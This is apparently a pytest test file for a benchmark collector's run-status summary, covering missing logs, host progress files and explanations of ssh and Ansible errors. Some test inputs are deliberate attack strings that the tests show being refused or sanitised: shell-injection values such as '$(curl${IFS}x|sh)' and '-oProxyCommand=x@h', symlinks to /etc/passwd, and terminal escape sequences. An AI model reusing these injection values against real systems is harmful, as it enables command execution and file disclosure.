"""What of a run is there, told from its folder alone."""

import json
import re
import time
from pathlib import Path

import pytest

from collector.cli import main
from collector.run.failures import Failure, clearer, write_failures
from collector.run.summary import summarize


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """Return the folder of a run of two hosts, for each of which 6 logs are planned."""
    plan = tmp_path / "small.yml"
    plan.write_text(
        "boots: 1\nfootprints: 0\nrepetitions: 1\nseconds: 1\nsettle_seconds: 0\n"
        "cpu: {threads: [1, 2, 4]}\n"
    )
    folder = tmp_path / "results" / "friday"
    start = ["plan", str(plan), "--vmms", "qemu", "--hosts", "h1,h2", "--start", str(folder)]
    assert main(start) == 0
    return folder


def put(run: Path, log: str, text: str = "a result\n", **sidecar: object) -> None:
    """Write a log, and its sidecar if anything is known of it."""
    path = run / log
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    if sidecar:
        path.with_suffix(".json").write_text(json.dumps(sidecar))


def complete(run: Path, host: str) -> None:
    """Write every planned log of `host`."""
    for case in ("default", "blame", "critical-chain"):
        put(run, f"{host}/qemu/boot/{case}/01.log", exit_code=0)
    for threads in (1, 2, 4):
        put(run, f"{host}/qemu/sysbench-cpu/threads-{threads}/01.log", exit_code=0)


def test_a_complete_run_is_all_right(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Exit code 0, workbook named."""
    for host in ("h1", "h2"):
        complete(run, host)
    (run / "friday.xlsx").touch()
    capsys.readouterr()
    assert main(["status", str(run)]) == 0
    shown = capsys.readouterr().out
    assert f"Workbook: {run}/friday.xlsx" in shown
    assert "12 measurements planned, 12 made, 0 missing\n" in shown
    assert "Go on" not in shown


def test_missing_and_failed_logs_are_told_apart(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Per host and reason; a retried log is there; what failed says how."""
    complete(run, "h1")
    cpu = run / "h1" / "qemu" / "sysbench-cpu"
    (cpu / "threads-1" / "01.log").unlink()
    (cpu / "threads-2" / "01.log").unlink()
    (cpu / "threads-4" / "01.log").write_text("")
    put(run, "h1/qemu/boot/default/01.failed-1.log", exit_code=1)
    put(run, "h1/qemu/sysbench-cpu/threads-1/01.failed-9.log", "old\n", exit_code=2)
    put(
        run,
        "h1/qemu/sysbench-cpu/threads-1/01.failed-10.log",
        "WARN\nFATAL: \x1b[31mbroken\n\n",
        exit_code=1,
    )
    capsys.readouterr()
    assert main(["status", str(run)]) == 1
    assert capsys.readouterr().out.splitlines()[1:] == [
        (
            f"Workbook: none was made; vmmlab report {run} -o {run}/report.xlsx makes one of what"
            " is there"
        ),
        "12 measurements planned, 3 made, 9 missing (1 of them failed)",
        "host  planned  made  missing  failed  state",
        "h1          6     3        3       1  not heard of, 1 made after a failed attempt",
        "h2          6     0        6       0  not heard of",
        (
            "h1: 1 missing, exit code 1: FATAL: [31mbroken: qemu sysbench-cpu threads-1 (1 of 1);"
            f" log: {cpu}/threads-1/01.failed-10.log"
        ),
        (
            "h1: 2 missing, not measured yet: qemu sysbench-cpu threads-2 (1 of 1),"
            " qemu sysbench-cpu threads-4 (1 of 1)"
        ),
        (
            "h2: 6 missing, nothing has come from this host yet: qemu boot (1 of 1),"
            " qemu boot blame (1 of 1), qemu boot critical-chain (1 of 1) and 3 more"
        ),
        (
            "Go on with what is missing: the same command with -e run_name=friday"
            " (vmmlab run: --run friday)"
        ),
    ]


def test_a_log_without_its_sidecar_is_not_made(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same command measures it again, so it still counts as missing."""
    complete(run, "h1")
    (run / "h1" / "qemu" / "sysbench-cpu" / "threads-2" / "01.json").unlink()
    capsys.readouterr()
    assert main(["status", str(run)]) == 1
    assert (
        "h1: 1 missing, the log is there without its sidecar and will be measured again:"
        " qemu sysbench-cpu threads-2 (1 of 1)\n"
    ) in capsys.readouterr().out


def test_a_host_says_why(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What the lab host wrote of its progress is shown, without what could harm a terminal."""
    complete(run, "h1")
    (run / "h1" / "qemu" / "sysbench-cpu" / "threads-2" / "01.log").unlink()
    reason = {"vmm": "qemu", "measurement": "sysbench-cpu", "case": "threads-2", "repetition": 1}
    progress = {
        "state": "running",
        "seconds_left": 2460,
        "message": "guest\x1b[2J 2 starts",
        "missing": [{**reason, "reason": "the guest never finished booting"}, 3],
    }
    (run / "h1" / "progress.json").write_text(json.dumps(progress))
    capsys.readouterr()
    assert main(["status", str(run)]) == 1
    shown = capsys.readouterr().out
    assert "running, 41 min left when it was last heard of" in shown
    assert "h1: guest[2J 2 starts" in shown
    assert "h1: 1 missing, the guest never finished booting: qemu sysbench-cpu threads-2" in shown
    assert "\x1b" not in shown


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ('{"seconds_left": NaN, "state": "running"}', "a number in it is not finite, or too large"),
        ('{"seconds_left": 1' + 400 * "0" + "}", "a number in it is not finite, or too large"),
        (100_000 * "[", "it is nested too deeply"),
        ("{", "Expecting property name enclosed in double quotes: line 1 column 2 (char 1)"),
    ],
)
def test_a_hosts_broken_progress_is_told(
    run: Path, content: str, why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """It neither stops the summary nor looks as if the host had said nothing."""
    complete(run, "h1")
    (run / "h1" / "qemu" / "sysbench-cpu" / "threads-2" / "01.log").unlink()
    (run / "h1" / "progress.json").write_text(content)
    capsys.readouterr()
    assert main(["status", str(run)]) == 1
    assert f"h1: progress.json cannot be used: {why}\n" in capsys.readouterr().out


def test_odd_reasons_of_a_host_are_left_out(run: Path) -> None:
    """A list where a number belongs is no error of run.json."""
    gap = {"vmm": [], "measurement": "boot", "case": {}, "repetition": [], "reason": "x"}
    (run / "h1").mkdir()
    (run / "h1" / "progress.json").write_text(json.dumps({"missing": [gap], "state": [1]}))
    assert summarize(run).hosts[0].missing[0].reason == "not measured yet"


def test_a_host_that_failed_is_told_with_its_error(
    run: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The playbook's error, and where all of it is; no longer once the host does well."""
    complete(run, "h1")
    result = {"msg": "no space\x1b[2J", "stderr": "tar: /opt: No space left\n"}
    failed = {"h2": Failure("provision", "Unpack it: no space", result)}
    write_failures(run, failed, ["h1", "h2"], seen=["h1", "h2"])
    capsys.readouterr()
    assert main(["status", str(run)]) == 1
    log = run / "errors" / "h2.log"
    assert f"h2: provision: Unpack it: no space; see {log}\n" in capsys.readouterr().out
    assert "stderr:\ntar: /opt: No space left\n" in log.read_text()
    assert "\x1b" not in log.read_text()
    write_failures(run, {}, ["h1", "h2"], seen=["h1"])
    assert log.exists()
    write_failures(run, {}, ["h1", "h2"], seen=["h1", "h2"])
    assert not log.exists()


def test_links_are_no_logs(run: Path) -> None:
    """A lab host cannot point the controller at other files."""
    complete(run, "h1")
    log = run / "h1" / "qemu" / "boot" / "default" / "01.log"
    log.unlink()
    log.symlink_to("/etc/passwd")
    failed = log.with_name("01.failed-1.log")
    failed.symlink_to("/etc/passwd")
    (run / "h1" / "progress.json").symlink_to("/etc/passwd")
    (missing,) = summarize(run).hosts[0].missing
    assert missing.reason == "it did not end by itself"


def test_the_summary_is_there_for_programs(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--json holds every missing log."""
    complete(run, "h1")
    capsys.readouterr()
    assert main(["status", str(run), "--json"]) == 1
    hosts = json.loads(capsys.readouterr().out)["hosts"]
    assert [(host["host"], len(host["missing"])) for host in hosts] == [("h1", 0), ("h2", 6)]


def test_what_is_no_run_is_unusable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A folder without run.json, a broken one, and no folder at all."""
    assert main(["status", str(tmp_path)]) == 2
    assert "there is none, so nothing says what was planned" in capsys.readouterr().err
    keys: dict[str, object] = {
        key: {} for key in ("plan", "seed", "vmms", "vmm_entries", "left_out", "blocks")
    }
    (tmp_path / "run.json").write_text(json.dumps({"format": 1, **keys, "hosts": [1]}))
    assert main(["status", str(tmp_path)]) == 2
    assert "not as vmmlab writes it" in capsys.readouterr().err
    assert main(["status", "no-such-run"]) == 2
    assert "no-such-run: there is no such run" in capsys.readouterr().err


def test_a_refused_key_is_explained() -> None:
    """Who is refused, how, and what to do."""
    said = clearer("Make sure ...: root@10.0.0.7: Permission denied (publickey,password).", "lab-3")
    assert said.startswith("lab-3 lets no key of this controller in (root@10.0.0.7, publickey,pass")
    assert "ssh-copy-id root@10.0.0.7" in said
    assert clearer("something else", "lab-3") == "something else"


CHANGED = "REMOTE HOST IDENTIFICATION HAS CHANGED! Offending ED25519 key in /root/known:7 {}\n"


@pytest.mark.parametrize(
    "command",
    [
        "ssh-keygen -f '/root/.ssh/known_hosts' -R '[10.0.0.7]:2222'",
        'ssh-keygen -f "/root/.ssh/known_hosts" -R "lab-3.example"',
        "ssh-keygen -f known_hosts -R ::1",
    ],
)
def test_a_changed_key_is_explained(command: str) -> None:
    """With ssh's own command to forget the old one."""
    said = clearer(CHANGED.format(command), "lab-3")
    assert "(/root/known, line 7)" in said
    assert f"forget the old key: {command}; otherwise" in said


@pytest.mark.parametrize(
    "command",
    [
        "ssh-keygen -f $(curl${IFS}x|sh) -R y",
        "ssh-keygen -f known -R `x`",
        "ssh-keygen -f 'known -R y",
        "ssh-keygen -f known -R y;x",
        "ssh-keygen -f -x -R y",
    ],
)
def test_a_host_chooses_no_command(command: str) -> None:
    """Its words are not what people are told to type."""
    assert "old key: ssh-keygen -R; otherwise" in clearer(CHANGED.format(command), "lab-3")


@pytest.mark.parametrize("who", ["$(x)@h", "-oProxyCommand=x@h", "a@$(x)", "a@h;x"])
def test_a_host_chooses_no_login(who: str) -> None:
    """A name and an address, and nothing else, stand in the command."""
    said = clearer(f"{who}: Permission denied (publickey).", "lab-3")
    assert not re.search(r"ssh-copy-id .*[$;=]", said)
    assert "ssh-copy-id -" not in said


@pytest.mark.parametrize(
    "words", ["a", "a@", "No usable temporary directory found in [", "a@a: ", "/a", "/python: "]
)
def test_a_long_error_takes_no_time(words: str) -> None:
    """It is what a lab host wrote."""
    began = time.process_time()
    clearer(words * (1_000_000 // len(words)), "lab-3")
    assert time.process_time() - began < 2


def test_a_full_disk_is_named() -> None:
    """What Ansible says of a host on which it can write nothing is no word of disks."""
    said = clearer(
        "FileNotFoundError: [Errno 2] No usable temporary directory found in"
        " ['/tmp', '/var/tmp', '/usr/tmp', '/root']",
        "lab-3",
    )
    assert said.startswith("lab-3: no file can be written there, in none of /tmp, /var/tmp, /usr/")
    assert "Is its disk full" in said


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            (
                "Task failed: Premature end of stream waiting for become success. >>> Error"
                " sudo: a password is required"
            ),
            (
                "lab-3: sudo wants a password there, and none was given. Add -K (--ask-become-pass)"
                " to ansible-playbook or vmmlab run, ARGS=-K to make; where"
            ),
        ),
        ("Missing sudo password", "lab-3: sudo wants a password there, and none was given."),
        (
            "Duplicate become password prompt encountered waiting for become success.",
            (
                "lab-3: sudo there does not take the password that was given. Where this host has"
                " one of its own, set ansible_become_password for it"
            ),
        ),
        ("student is not in the sudoers file.", "lab-3: the user that Ansible logs in as may not"),
        (
            "The module interpreter '/usr/bin/python3' was not found.",
            (
                "lab-3 has no Python at /usr/bin/python3, which Ansible needs there. On Debian"
                " this installs it: ansible lab-3 -i INVENTORY --become -m ansible.builtin.raw"
            ),
        ),
        ("/bin/sh: 1: /usr/bin/python3: not found", "lab-3 has no Python at /usr/bin/python3,"),
        (
            (
                "Failed to lock apt for exclusive operation: Failed to lock directory"
                " /var/lib/apt/lists/: E:Could not get lock /var/lib/apt/lists/lock. It is held by"
                " process 551 (unattended-upgr)"
            ),
            (
                "lab-3: another program has held the lock of apt there all the time: process 551"
                " (unattended-upgr). Let it end"
            ),
        ),
        (
            (
                "'/usr/bin/apt-get -y install' failed: E: Unable to acquire the dpkg frontend lock"
                " (/var/lib/dpkg/lock-frontend), is another process using it?"
            ),
            (
                "lab-3: another program has held the lock of apt there all the time: fuser -v"
                " /var/lib/dpkg/lock-frontend there says who. Let it end"
            ),
        ),
    ],
)
def test_what_a_fresh_host_lacks_is_told_with_what_to_do(text: str, expected: str) -> None:
    """The texts are what ansible-core 2.19 and apt said where it was provoked."""
    assert clearer(text, "lab-3").startswith(expected)
    assert clearer("/etc/hosts: not found", "lab-3") == "/etc/hosts: not found"
